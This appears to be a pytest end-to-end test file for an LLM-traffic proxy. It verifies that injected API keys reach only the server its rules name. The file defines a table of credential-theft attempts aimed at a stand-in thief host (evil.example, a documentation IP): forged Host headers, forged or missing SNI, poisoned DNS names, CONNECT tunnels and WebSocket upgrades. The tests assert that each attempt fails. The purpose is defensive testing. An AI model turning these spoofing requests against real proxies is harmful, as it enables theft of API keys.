"""The proxy's own keys under attack: whatever a client claims, a key reaches only the server that its rule names.

The thief listens where a client may send a call: at an address of its own, under names of its own, and in the place of
names whose lookup it has poisoned. Its certificate is valid for its own names, as anybody's can be.
"""

from __future__ import annotations

import json
import socket
import ssl
from collections.abc import Callable, Iterator
from typing import Any

import pytest
from tests.e2e.lab import SCRIPTS, Lab, Proxy
from tests.support.dialogue import Request, Respond
from tests.support.gate import PATIENCE
from tests.support.http_server import Server

from sessiontap.demo.redirect import Redirect
from sessiontap.trace import RecordedCall

KEY = "corp-key-0123456789"
HELICONE_KEY = "sk-helicone-abcdefg-hijklmn-opqrstu-vwxyz01"
ENVIRONMENT = {"CORP_KEY": KEY, "HELICONE_API_KEY": HELICONE_KEY}
THIEF = "203.0.113.9"
CORP = "198.51.100.7"
NAME = "llm.corp.example"
POISONED = "poisoned.corp.example"
RULES: Any = {
    "version": 1,
    "hosts": [{"host": "evil.example"}, {"host": THIEF}, {"host": POISONED}],
    "rules": [
        {
            "rule": "corp",
            "match": {"host": [NAME, "*.corp.example", "127.0.0.1", "localhost"]},
            "headers": {"set": {"X-Api-Key": "${proxy_env.CORP_KEY}", "X-Team": "team ${proxy_env.CORP_KEY}"}},
            "properties": {"of": "${proxy_env.CORP_KEY}"},
            "session": {"name": "Corp"},
        },
        {"rule": "all", "session": {"name": "All"}},
    ],
}
BODY = json.dumps({"model": "m", "messages": []}).encode()


async def answer(request: Request, respond: Respond) -> None:
    await request.body()
    await respond.whole(200, b"{}", [("content-type", "application/json")])


class Place:
    """The servers that a call may reach."""

    def __init__(self, lab: Lab) -> None:
        self.corp = lab.upstream(answer, [NAME, CORP])
        self.thief = lab.upstream(answer, ["evil.example", THIEF, "oai.helicone.ai"])
        self.plain_thief = lab.upstream(answer, [THIEF, NAME], tls=False)
        self.plain_local = lab.upstream(answer, ["local.example"], tls=False)
        lab.redirect(Redirect(POISONED, 443, self.thief.port))

    @property
    def servers(self) -> list[Server]:
        return [self.corp, self.thief, self.plain_thief, self.plain_local]

    @property
    def requests(self) -> list[Request]:
        return [request for server in self.servers for request in server.requests]


@pytest.fixture(scope="module")
def place(shared_lab: Lab) -> Place:
    return Place(shared_lab)


@pytest.fixture(scope="module")
def proxy(shared_lab: Lab, place: Place) -> Proxy:
    return shared_lab.proxy(RULES, environment=ENVIRONMENT)


@pytest.fixture(scope="module")
def insecure(shared_lab: Lab, place: Place) -> Proxy:
    """A proxy that verifies no certificate."""
    script = SCRIPTS / "verifies.py"
    return shared_lab.proxy(RULES, environment=ENVIRONMENT, options={"ssl_insecure": "true"}, scripts=[script])


@pytest.fixture(autouse=True)
def fresh(place: Place) -> None:
    for server in place.servers:
        server.requests.clear()


def post(target: str, host: str) -> bytes:
    head = f"POST {target} HTTP/1.1\r\nHost: {host}\r\nContent-Type: application/json\r\nConnection: close\r\n"
    return f"{head}Content-Length: {len(BODY)}\r\n\r\n".encode() + BODY


def upgrade(target: str, host: str) -> bytes:
    fields = "Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13"
    key = "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA=="
    return f"GET {target} HTTP/1.1\r\nHost: {host}\r\n{fields}\r\n{key}\r\n\r\n".encode()


def begun(proxy: Proxy, request: bytes) -> bytes:
    """The beginning of the answer to bytes that are sent to the proxy."""
    with socket.create_connection(("127.0.0.1", proxy.process.port), PATIENCE) as wire:
        wire.sendall(request)
        return wire.recv(65536)


def exchange(proxy: Proxy, request: bytes, *, connect: str | None = None, sni: str | None = None) -> bytes:
    """The answer to bytes that are sent to the proxy (with `sni`: in TLS), or in a tunnel through it (the same)."""
    with socket.create_connection(("127.0.0.1", proxy.process.port), PATIENCE) as wire:
        if connect is not None:
            wire.sendall(f"CONNECT {connect} HTTP/1.1\r\nHost: {connect}\r\n\r\n".encode())
            head = b""
            while b"\r\n\r\n" not in head:
                head += wire.recv(1)
            assert head.split()[1] == b"200", head
        if sni is None:
            return talk(wire, request)
        trust = ssl.create_default_context(cafile=proxy.ca)
        trust.check_hostname = False
        with trust.wrap_socket(wire, server_hostname=sni or None) as tunnel:
            return talk(tunnel, request)


def talk(wire: socket.socket, request: bytes) -> bytes:
    wire.sendall(request)
    got = b""
    while piece := wire.recv(65536):
        got += piece
    return got


def keys_of(request: Request) -> list[str]:
    """Every field of a request with a key of the proxy's in it."""
    return [name for name, value in request.headers if KEY in value or HELICONE_KEY in value]


Attack = Callable[[Proxy, Place], bytes]
PATH = "/v1/chat/completions"
ATTACKS: dict[str, Attack] = {
    "plain HTTP to an address, under a forged Host": lambda proxy, _: exchange(
        proxy, post(f"http://{THIEF}{PATH}", NAME)
    ),
    "plain HTTP to an address, under a loopback Host": lambda proxy, _: exchange(
        proxy, post(f"http://{THIEF}{PATH}", "127.0.0.1")
    ),
    "plain HTTP to the name itself, over a network that anybody reads": lambda proxy, _: exchange(
        proxy, post(f"http://{NAME}{PATH}", NAME)
    ),
    "a tunnel to an address, plain inside, under a forged Host": lambda proxy, _: exchange(
        proxy, post(PATH, NAME), connect=f"{THIEF}:80"
    ),
    "a tunnel to an address, plain inside, under a loopback Host": lambda proxy, _: exchange(
        proxy, post(PATH, "localhost"), connect=f"{THIEF}:80"
    ),
    "a tunnel to the name on its plain port": lambda proxy, _: exchange(proxy, post(PATH, NAME), connect=f"{NAME}:80"),
    "TLS to an address, under a forged server name": lambda proxy, _: exchange(
        proxy, post(PATH, NAME), connect=f"{THIEF}:443", sni=NAME
    ),
    "TLS to an address without a server name, under a forged Host": lambda proxy, _: exchange(
        proxy, post(PATH, NAME), connect=f"{THIEF}:443", sni=""
    ),
    "TLS to an address under its own name, with a forged Host": lambda proxy, _: exchange(
        proxy, post(PATH, NAME), connect=f"{THIEF}:443", sni="evil.example"
    ),
    "a poisoned name, verified for another that the thief owns": lambda proxy, _: exchange(
        proxy, post(PATH, POISONED), connect=f"{POISONED}:443", sni="evil.example"
    ),
    "the server itself, to be passed on by Host": lambda proxy, _: exchange(
        proxy, post(PATH, "evil.example"), connect=f"{NAME}:443", sni=NAME
    ),
    "the server itself, to be passed on by the target": lambda proxy, _: exchange(
        proxy, post(f"https://evil.example{PATH}", NAME), connect=f"{NAME}:443", sni=NAME
    ),
    "loopback, to be passed on by Host": lambda proxy, place: exchange(
        proxy, post(f"http://127.0.0.1:{place.plain_local.port}{PATH}", "evil.example")
    ),
    "loopback, under the name of a server elsewhere": lambda proxy, place: exchange(
        proxy, post(f"http://127.0.0.1:{place.plain_local.port}{PATH}", NAME)
    ),
    "TLS with the proxy under the server's name": lambda proxy, _: exchange(
        proxy, post(f"https://{THIEF}{PATH}", NAME), sni=NAME
    ),
    "TLS with the proxy, plain HTTP to an address": lambda proxy, _: exchange(
        proxy, post(f"http://{THIEF}{PATH}", NAME), sni=NAME
    ),
    "TLS to an address, under the server's name in capitals": lambda proxy, _: exchange(
        proxy, post(PATH, f"{NAME}."), connect=f"{THIEF}:443", sni=NAME.upper()
    ),
    "an upgrade to a WebSocket at an address, under a forged Host": lambda proxy, _: begun(
        proxy, upgrade(f"http://{THIEF}/v1/realtime?model=m", "127.0.0.1")
    ),
    "plain HTTP to an address, under a loopback Host with a port": lambda proxy, _: exchange(
        proxy, post(f"http://{THIEF}:80{PATH}", "localhost:80")
    ),
    "Helicone's name, forged over an address": lambda proxy, _: exchange(
        proxy, post(PATH, "oai.helicone.ai"), connect=f"{CORP}:443", sni="oai.helicone.ai"
    ),
    "Helicone's name in plain HTTP": lambda proxy, _: exchange(
        proxy, post(f"http://{THIEF}{PATH}", "oai.helicone.ai")
    ),
}
NEVER_CONNECTED = {
    "TLS to an address, under the server's name in capitals",
    "TLS to an address, under a forged server name",
    "Helicone's name, forged over an address",
}
"""The server's certificate is not for the name that the client claims: the call fails before anything is sent."""


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("mode", ["verified", "insecure"])
def test_no_claim_gets_the_proxys_key(request: pytest.FixtureRequest, place: Place, mode: str, attack: str) -> None:
    proxy: Proxy = request.getfixturevalue("proxy" if mode == "verified" else "insecure")
    got = ATTACKS[attack](proxy, place)
    if mode == "verified" and attack in NEVER_CONNECTED:
        assert got.startswith(b"HTTP/1.1 502")
        assert place.requests == []
        return
    assert place.requests, f"the attack reached nobody: {got!r}"  # else it shows nothing
    assert [keys_of(one) for one in place.requests] == [[]]


@pytest.mark.parametrize("version", ["HTTP/1.1", "HTTP/2"])
def test_an_authority_other_than_the_server_gets_no_key(proxy: Proxy, place: Place, version: str) -> None:
    with proxy.client(version) as app:
        assert app.post(f"https://{NAME}{PATH}", content=BODY, headers={"Host": "evil.example"}).status_code == 200
    (sent,) = place.corp.requests
    assert (sent.host, keys_of(sent)) == ("evil.example", [])


@pytest.mark.parametrize("version", ["HTTP/1.1", "HTTP/2"])
def test_the_server_that_the_rule_names_gets_the_key(proxy: Proxy, place: Place, version: str) -> None:
    with proxy.client(version) as app:
        for _ in range(2):  # the second goes over the connection of the first
            assert app.post(f"https://{NAME}{PATH}", content=BODY).status_code == 200
    assert [sent.headers.get("x-api-key") for sent in place.corp.requests] == [KEY] * 2


def test_an_address_whose_certificate_is_the_names_gets_the_key(proxy: Proxy, place: Place) -> None:
    got = exchange(proxy, post(PATH, f"{NAME}:443"), connect=f"{CORP}:443", sni=NAME)
    assert got.startswith(b"HTTP/1.1 200")
    assert [sent.headers.get("x-api-key") for sent in place.corp.requests] == [KEY]


def test_the_server_gets_the_key_from_an_app_that_speaks_tls_with_the_proxy(proxy: Proxy, place: Place) -> None:
    got = exchange(proxy, post(f"https://{NAME}{PATH}", NAME), sni="proxy.example")
    assert got.startswith(b"HTTP/1.1 200")
    assert [sent.headers.get("x-api-key") for sent in place.corp.requests] == [KEY]


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost"])
@pytest.mark.parametrize("tunnel", [False, True], ids=["by its URL", "through a tunnel"])
def test_a_server_of_this_machine_that_the_rule_names_gets_the_key(
    proxy: Proxy, place: Place, host: str, tunnel: bool
) -> None:
    there = f"{host}:{place.plain_local.port}"
    if tunnel:
        exchange(proxy, post(PATH, there), connect=there)
    else:
        exchange(proxy, post(f"http://{there}{PATH}", there))
    assert [sent.headers.get("x-api-key") for sent in place.plain_local.requests] == [KEY]


def test_a_key_that_was_sent_stands_in_no_file(proxy: Proxy, place: Place) -> None:
    path = f"{PATH}?of=no-file"
    with proxy.client() as app:
        assert app.post(f"https://{NAME}{path}", json={"of": f"the key is {KEY}"}).status_code == 200
    (call,) = of_path(proxy.wait_calls(lambda calls: bool(of_path(calls, path))), path)
    sent = {change[1]: change[3] for change in call.record["changes"] if change[0] == "set"}
    assert sent["Helicone-Property-of"].startswith("[redacted:")
    assert sent["X-Team"] == f"team {sent['Helicone-Property-of']}"
    assert KEY.encode() not in b"".join(segment.path.read_bytes() for segment in proxy.trace.segments())
    assert KEY not in json.dumps(call.record, default=str)
    assert KEY.encode() not in (call.request_body() or b"")


def of_path(calls: list[RecordedCall], path: str) -> list[RecordedCall]:
    return [call for call in calls if call.record["request"]["url"].endswith(path)]


def withheld(call: RecordedCall) -> dict[str, str]:
    return {change[1]: change[4] for change in call.record["changes"] if change[0] == "withhold"}


def test_why_a_key_is_withheld_stands_in_the_record_and_is_said_once(insecure: Proxy, place: Place) -> None:
    path = f"{PATH}?of=this-test"
    with insecure.client() as app:
        for _ in range(3):
            assert app.post(f"https://{NAME}{path}", content=BODY).status_code == 200
    assert [keys_of(sent) for sent in place.corp.requests] == [[]] * 3
    calls = of_path(insecure.wait_calls(lambda calls: len(of_path(calls, path)) == 3), path)
    reason = "corp: the server's certificate is not verified (ssl_insecure)"
    assert [withheld(call) for call in calls] == [{"X-Api-Key": reason, "X-Team": reason, "properties.of": reason}] * 3
    said = [line for line in insecure.process.lines if "X-Api-Key is withheld" in line and "not verified" in line]
    assert len(said) == 1
    assert KEY not in insecure.process.output


def test_a_connection_that_was_not_verified_carries_no_key_later(insecure: Proxy, place: Place) -> None:
    url = f"https://{NAME}{PATH}"
    with insecure.client() as app:
        app.post(url, content=BODY, headers={"x-verify": "yes"})
        app.post(url, content=BODY)
    with insecure.client() as app:
        app.post(url, content=BODY, headers={"x-verify": "no"})
    first, second, third = place.corp.requests
    assert first.connection == second.connection != third.connection
    assert [sent.headers.get("x-api-key") for sent in (first, second, third)] == [None, None, KEY]


# -- other modes of the proxy -----------------------------------------------------------------------------------------


def test_no_key_leaves_by_a_proxy_behind_this_one(shared_lab: Lab, place: Place) -> None:
    onwards = f"upstream:http://127.0.0.1:{place.plain_thief.port}"
    proxy = shared_lab.proxy(RULES, environment=ENVIRONMENT, options={"mode": onwards})
    for host in ("127.0.0.1", "localhost", NAME):
        exchange(proxy, post(f"http://{host}{PATH}", host))
    assert [keys_of(sent) for sent in place.plain_thief.requests] == [[]] * 3


def test_no_key_leaves_to_the_server_of_a_reverse_proxy_under_a_forged_host(shared_lab: Lab, place: Place) -> None:
    back = f"reverse:http://127.0.0.1:{place.plain_thief.port}"
    proxy = shared_lab.proxy(RULES, environment=ENVIRONMENT, options={"mode": back, "keep_host_header": "true"})
    place.plain_thief.requests.clear()  # the start has asked it whether it answers
    for host in (NAME, "127.0.0.1"):
        exchange(proxy, post(PATH, host))
    keys = [sorted(keys_of(sent)) for sent in place.plain_thief.requests]
    assert keys == [[], ["Helicone-Property-of", "X-Api-Key", "X-Team"]]


# -- gateways ---------------------------------------------------------------------------------------------------------


@pytest.fixture
def ruled() -> Iterator[Callable[[Proxy, Any], None]]:
    """Gives a shared proxy other rules for one test."""
    changed: list[Proxy] = []

    def give(proxy: Proxy, rules: Any) -> None:
        changed.append(proxy)
        proxy.write_rules(rules)

    yield give
    for proxy in changed:
        proxy.write_rules(RULES)


@pytest.mark.parametrize("mode", ["proxy", "insecure"])
def test_a_gateway_of_ones_own_on_this_machine_gets_its_key(
    request: pytest.FixtureRequest, ruled: Callable[[Proxy, Any], None], place: Place, mode: str
) -> None:
    at = f"http://127.0.0.1:{place.plain_local.port}"
    rules: Any = {
        "version": 1,
        "hosts": [{"host": NAME}],
        "gateways": {"mine": {"kind": "helicone", "url": at, "key": "${proxy_env.CORP_KEY}"}},
        "rules": [{"gateway": "mine", "headers": {"set": {"X-Team": "${proxy_env.CORP_KEY}"}}}],
    }
    proxy: Proxy = request.getfixturevalue(mode)
    ruled(proxy, rules)
    exchange(proxy, post(PATH, NAME), connect=f"{THIEF}:443", sni=NAME)  # it goes to no address that a client gives
    (sent,) = place.requests
    assert sent in place.plain_local.requests
    assert (sent.headers.get("helicone-auth"), sent.headers.get("x-team")) == (f"Bearer {KEY}", KEY)
    assert sent.headers.get("helicone-target-url") == f"https://{NAME}"


def test_calls_go_to_their_own_host_if_anybody_may_pretend_to_be_the_gateway(
    insecure: Proxy, ruled: Callable[[Proxy, Any], None], place: Place
) -> None:
    ruled(insecure, {"version": 1, "hosts": [{"host": NAME}], "rules": [{"gateway": "helicone"}]})
    with insecure.client() as app:
        for _ in range(2):
            assert app.post(f"https://{NAME}{PATH}", content=BODY).status_code == 200
    assert [keys_of(sent) for sent in place.corp.requests] == [[], []]
    assert place.thief.requests == []  # which stands in Helicone's place, too
    said = [line for line in insecure.process.lines if "The gateway's calls go to their own hosts" in line]
    assert len(said) == 1
